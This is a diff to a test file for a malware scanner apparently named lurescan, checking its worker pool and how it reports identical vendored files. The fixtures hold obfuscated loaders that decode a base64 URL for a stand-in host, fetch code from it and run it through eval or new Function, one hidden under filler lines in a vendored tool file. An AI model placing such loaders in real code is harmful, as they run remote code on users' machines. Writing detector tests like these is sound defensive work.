@@ -99,7 +99,8 @@ describe('analysis worker pool', function () {
       // 5 MB of ordinary code that passes the prefilter (request and Buffer tokens), in 20 files, and one loader.
       const filler = Array.from({ length: 2_000 }, (_, i) => `export async function load${i}(u) { const r = await fetch(u + ${i}); return Buffer.from(await r.arrayBuffer()); }`).join('\n');
       mkdirSync(path.join(dir, 'src'), { recursive: true });
-      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), filler);
+      // Twenty different files: copies of one file would be analysed once.
+      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), `${filler}\n// ${i}\n`);
       writeFileSync(path.join(dir, 'src', 'boot.js'), 'const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => new Function("require", c)(require));\n');
       const saved = process.env.LURESCAN_WORKERS;
       try {
@@ -122,6 +123,42 @@ describe('analysis worker pool', function () {
         else process.env.LURESCAN_WORKERS = saved;
       }
     } finally {
+      cleanup();
+    }
+  });
+});
+
+describe('files with the same bytes in one scan', () => {
+  it('are analysed once, in the thread and in the pool, and each is reported at its own path', async () => {
+    const { dir, cleanup } = tempDir();
+    const saved = process.env.LURESCAN_WORKERS;
+    try {
+      // A vendored tool committed twice (two `.yarn/releases/` copies), with a loader in it, plus 5 MB to start the pool.
+      const tool = `${'// release notes line\n'.repeat(1200)}const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => eval(c));\n`;
+      for (const w of ['a', 'b']) {
+        mkdirSync(path.join(dir, w, '.yarn', 'releases'), { recursive: true });
+        writeFileSync(path.join(dir, w, '.yarn', 'releases', 'tool.cjs'), tool);
+      }
+      const big = Array.from({ length: 2_000 }, (_, i) => `export async function load${i}(u) { const r = await fetch(u + ${i}); return Buffer.from(await r.arrayBuffer()); }`).join('\n');
+      mkdirSync(path.join(dir, 'src'), { recursive: true });
+      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), `${big}\n// ${i}\n`);
+      for (const workers of ['0', '2']) {
+        process.env.LURESCAN_WORKERS = workers;
+        const idx = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
+        assert.equal(idx.stats.same, 1, `workers=${workers}`);
+        assert.equal(idx.stats.workers, Number(workers));
+        const copies = idx.files.filter((f) => f.path.endsWith('tool.cjs'));
+        assert.deepEqual(copies.map((f) => f.path), ['a/.yarn/releases/tool.cjs', 'b/.yarn/releases/tool.cjs']);
+        assert.deepEqual(copies[1].js, copies[0].js);
+        assert.notEqual(copies[1].js, copies[0].js, 'a copy, not the same object');
+        const result = await scanFolder(dir);
+        const at = (p: string) => result.findings.filter((f) => f.location?.file === p).map((f) => `${f.ruleId} ${f.location?.line}`);
+        assert.ok(at('a/.yarn/releases/tool.cjs').length > 0, JSON.stringify(result.findings.map((f) => f.location)));
+        assert.deepEqual(at('b/.yarn/releases/tool.cjs'), at('a/.yarn/releases/tool.cjs'));
+      }
+    } finally {
+      if (saved === undefined) delete process.env.LURESCAN_WORKERS;
+      else process.env.LURESCAN_WORKERS = saved;
       cleanup();
     }
   });
